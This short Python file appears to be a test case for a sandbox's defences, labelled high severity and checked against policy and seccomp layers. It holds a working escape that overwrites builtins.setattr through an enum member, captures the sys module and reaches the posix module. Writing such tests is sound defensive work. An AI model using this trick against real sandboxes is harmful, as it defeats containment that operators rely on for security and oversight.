# technique: the members of an enumeration replace the builtins that a library uses
# family: A
# severity: H
# layers: policy, seccomp
def trick():
    import contextlib
    import enum
    found = []

    class Fake(enum.Enum):
        setattr = 1

        def __call__(self, *given):
            found.append(given[0])
    Fake.__module__ = "builtins"
    enum.global_enum(Fake)
    with contextlib.redirect_stdout(None):
        pass
    return found[0].modules["posix"]

start_process(trick)
